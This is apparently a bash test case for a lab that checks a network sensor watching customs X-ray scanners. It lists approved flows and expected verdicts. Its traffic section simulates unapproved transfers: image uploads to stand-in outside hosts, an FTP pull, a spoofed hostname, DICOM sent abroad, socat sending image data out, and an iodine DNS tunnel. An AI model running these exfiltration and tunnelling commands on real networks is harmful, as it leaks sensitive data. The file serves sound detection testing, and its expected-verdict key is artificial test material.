# shellcheck shell=bash disable=SC2034,SC2154
case_about="A scanner's working day in miniature: approved uploads, names and clocks; a vendor's maintenance session that connects in from abroad; and what nobody approved: a cloud upload, an FTP pull, a machine nobody knows, an upload over IPv6, a borrowed name, DICOM abroad, a DNS tunnel, a limit passed, an hour not agreed."
case_needs='curl nginx dnsmasq ssh sshd ssh-keygen vsftpd storescu storescp img2dcm chronyd iodine iodined mosquitto mosquitto_pub perl socat'
# shellcheck disable=SC2016
case_note='`hours:` of APR-2026-021 exclude, on purpose, the time of day of the recording; no other verdict depends on the hour.'
demo_part() { # CASE FUNCTION - borrow a function of another case
    # shellcheck source=/dev/null
    ( . "$LAB_HERE/cases/$1.sh"; "$2" )
}
demo_off_hours() {
    if [ "$(TZ=$LAB_TIMEZONE date +%H)" -ge 3 ]; then echo '00:00-02:00'; else echo '12:00-14:00'; fi
}
case_whole_site() {
    local y; y=$(date +%Y)
    cat <<END
# A customs post with cargo portals and baggage tunnels of several makers.
site: {name: Puerto de Ejemplo, sensor: pe-01, timezone: $LAB_TIMEZONE, language: es}
capture: {interfaces: [span0], workers: 2, snaplen: 65535, buffer_mb: 64}
networks:
  - {name: cargo-xray, vlan: 120, prefixes: [192.0.2.0/26, "2001:db8:120::/64"]}
  - {name: baggage, vlan: 130, prefixes: [192.0.2.64/26, "2001:db8:130::/64"]}
equipment:
  - {id: NII-0007, vendor: nuctech, model: cargo portal, place: Carril 3, mac: "c0:9b:f4:b0:00:07", addresses: [192.0.2.10, "2001:db8:120::10"]}
  - {id: NII-0008, vendor: rapiscan, model: cargo portal, place: Carril 4, mac: "70:b3:d5:cc:90:08", addresses: [192.0.2.11, "2001:db8:120::11"]}
  - {id: BAG-0003, vendor: smiths, model: baggage tunnel, place: Sala A, mac: "00:50:c2:2b:20:03", addresses: [192.0.2.70, "2001:db8:130::70"]}
  - {id: BAG-0004, vendor: leidos, model: baggage tunnel, place: Sala B, mac: "70:b3:d5:00:40:04", addresses: [192.0.2.71, "2001:db8:130::71"]}
approvals:
  - id: APR-2026-001                   # names
    equipment: [cargo-xray, baggage]
    to: {prefixes: [$RESOLVER/32]}
    ports: [udp/53, tcp/53]
    apps: [DNS]
    initiator: equipment
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Dirección de Infraestructura
    ticket: INF-2201
  - id: APR-2026-002                   # clocks
    equipment: [cargo-xray, baggage]
    to: {prefixes: [$NTP/32]}
    ports: [udp/123]
    apps: [NTP]
    initiator: equipment
    limit: {out: 1MB, per: day}
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Dirección de Infraestructura
    ticket: INF-2202
  - id: APR-2026-014                   # images to the national server
    equipment: [NII-0007, NII-0008]
    to: {hosts: [images.aduana.example], countries: [MX]}
    ports: [tcp/443]
    apps: [TLS]
    initiator: equipment
    limit: {out: 40GB, per: day}
    hours: "Mon-Sun 00:00-23:59"
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Administración Central de Equipamiento
    ticket: ACE-0114
  - id: APR-2026-015                   # baggage images, a small allowance
    equipment: [BAG-0003]
    to: {hosts: [images.aduana.example], prefixes: ["$IMAGES/32", "$IMAGES6/128"]}
    ports: [tcp/443]
    apps: [TLS]
    initiator: equipment
    limit: {out: 100KB, per: day}
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Administración Central de Equipamiento
    ticket: ACE-0115
  - id: APR-2026-016                   # DICOM to the archive
    equipment: [rapiscan]
    to: {prefixes: [$IMAGES/32]}
    ports: [tcp/104]
    apps: [DICOM]
    initiator: equipment
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Administración Central de Equipamiento
    ticket: ACE-0116
  - id: APR-2026-020                   # remote maintenance, under an agreement
    equipment: [NII-0007]
    to: {prefixes: [$VENDOR/32]}
    ports: [tcp/22]
    apps: [SSH]
    initiator: peer
    limit: {out: 10MB, per: day}
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Comité de Seguridad
    ticket: AGR-77
  - id: APR-2026-021                   # telemetry, at agreed hours only
    equipment: [NII-0008]
    to: {prefixes: [$DROP/32]}
    ports: [tcp/1883]
    apps: [MQTT]
    initiator: equipment
    hours: "Mon-Sun $(demo_off_hours)"
    valid: $((y - 1))-01-01..$((y + 1))-12-31
    approved_by: Comité de Seguridad
    ticket: AGR-81
END
}
case_setup() {
    lab_blob "$LAB_DIR/tmp/demo.img" 40
    demo_part ntp case_setup && demo_part ftp-pull case_setup && demo_part mqtt case_setup &&
        demo_part ssh-in case_setup && demo_part dicom case_setup && demo_part dns-tunnel case_setup || return 1
    cp "$LAB_DIR/tmp/demo.img" "$LAB_DIR/srv/ftp/20261122ADU0041S.Img"
}
case_traffic() {
    local h LAB_IMAGE=$LAB_DIR/tmp/demo.img
    for h in nii7 bag3; do lab_ask_ntp "$h" "$NTP"; done
    lab_put nii7 https://images.aduana.example/20261122ADU0001S.Img -4
    lab_put nii8 https://images.aduana.example/20261122ADU0002S.Img -6
    lab_in nii8 storescu -aet NII8 -aec ARCHIVE "$IMAGES" 104 "$LAB_DIR/tmp/scan.dcm"
    lab_ssh outside ssh -b "$VENDOR" root@192.0.2.10 "uname -a; head -c 3000 $LAB_DIR/tmp/demo.img" >/dev/null
    # Live, allowances are counted at the checkpoints, of each second at best.
    lab_put bag3 https://images.aduana.example/20261122ADU0101S.Img -6
    sleep 2.2
    lab_put bag3 https://images.aduana.example/20261122ADU0102S.Img -4
    sleep 2.2
    lab_put bag3 https://images.aduana.example/20261122ADU0103S.Img -4      # past its allowance
    lab_put nii8 https://drop.cloud.example/20261122ADU0002S.Img -4         # nobody approved it
    lab_in outside curl -sS -m 5 --interface "$STRANGER" -o /dev/null ftp://192.0.2.70/20261122ADU0041S.Img
    lab_put rogue https://files.abroad.example/dump.bin -4                  # nobody knows the machine
    lab_put bag4 https://files.abroad.example/20261122ADU0201S.Img -6       # IPv6
    lab_put nii7 https://images.aduana.example/x.Img -4 --resolve "images.aduana.example:443:$DROP"
    lab_in bag4 storescu -aet BAG4 -aec OUTSIDE "$DROP" 11112 "$LAB_DIR/tmp/scan.dcm"
    lab_in nii8 mosquitto_pub -h "$DROP" -i nii8 -q 1 -t scanner/state -m '{"belt":"on","kv":160}'
    lab_in bag4 "$LAB_HERE/send.pl" icmp4 "$STRANGER" 1000 4
    lab_bg case-iodine nii8 iodine -f -r -m 900 -P lab -T TXT "$NS2" t.tunnel.example
    lab_wait 6 grep -q "Connection setup complete" "$LAB_DIR/log/case-iodine" || return 1
    head -c 4000 "$LAB_IMAGE" | lab_in nii8 socat -u - UDP4-SENDTO:192.0.2.193:9999
    sleep 0.6
    lab_kill case-iodine
}
case_expect() {
    printf '%s\t%s\t%s\n' \
    2 '.dest_ip=="198.51.100.20" and .dest_port==443 and .verdict=="approved"' 'images to the national server, IPv4' \
    2 '.dest_ip=="2001:db8:f000::20" and .verdict=="approved"' 'images to the national server, IPv6' \
    1 '.dest_ip=="198.51.100.20" and .dest_port==104 and .verdict=="approved" and .approval=="APR-2026-016"' 'DICOM to the archive' \
    1 '.dest_ip=="203.0.113.10" and .initiator=="peer" and .verdict=="approved" and .approval=="APR-2026-020"' 'the maintenance session from abroad' \
    1 '.equipment=="BAG-0003" and .dest_port==443 and .verdict=="unapproved" and (.reasons|index("limit-exceeded"))' 'the third baggage image is past its allowance' \
    1 '.equipment=="NII-0008" and .dest_ip=="198.51.100.200" and .verdict=="unapproved" and (.reasons|length)>0' 'the cloud upload' \
    2 '.equipment=="BAG-0003" and .dest_ip=="203.0.113.77" and .initiator=="peer" and .verdict=="unapproved"' 'the FTP pull, control and data' \
    1 '.equipment=="unknown:00:00:5e:00:53:66" and .dest_ip=="203.0.113.80" and (.reasons|index("unknown-equipment"))' 'the machine nobody knows' \
    1 '.equipment=="BAG-0004" and .dest_ip=="2001:db8:f100::80" and .verdict=="unapproved"' 'the upload over IPv6' \
    1 '.equipment=="NII-0007" and .dest_ip=="203.0.113.80" and .verdict=="unapproved" and (.reasons|index("name-not-verified"))' 'the borrowed name' \
    1 '.equipment=="BAG-0004" and .dest_port==11112 and .verdict=="unapproved" and (.app_proto|test("DICOM"))' 'DICOM abroad' \
    1 '.equipment=="NII-0008" and .dest_port==1883 and .verdict=="unapproved" and (.reasons|index("outside-hours"))' 'telemetry at an hour not agreed' \
    1 '.equipment=="BAG-0004" and .dest_ip=="203.0.113.77" and .verdict=="unapproved" and .packets_out==4' 'ICMP abroad' \
    '>=1' '.equipment=="NII-0008" and .dest_ip=="203.0.113.53" and .verdict=="unapproved"' 'the DNS tunnel'
}
